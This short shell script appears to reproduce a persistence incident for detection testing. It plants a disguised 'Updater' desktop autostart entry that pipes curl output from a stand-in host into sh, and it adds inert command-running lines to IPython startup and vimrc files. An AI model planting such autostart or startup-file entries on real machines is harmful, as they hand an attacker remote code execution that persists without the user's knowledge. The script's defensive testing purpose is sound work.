# incident: persistence in a developer's session: an autostart entry and the start-up files of editors and interpreters
# finding: service-written, shell-startup-written
mkdir -p ~/.config/autostart ~/.ipython/profile_default/startup
printf '[Desktop Entry]\nType=Application\nName=Updater\nExec=sh -c "curl -s http://example.invalid | sh"\n' > ~/.config/autostart/updater.desktop
echo 'import os; os.system("true")' > ~/.ipython/profile_default/startup/00-x.py
echo 'call system("true")' >> ~/.vimrc
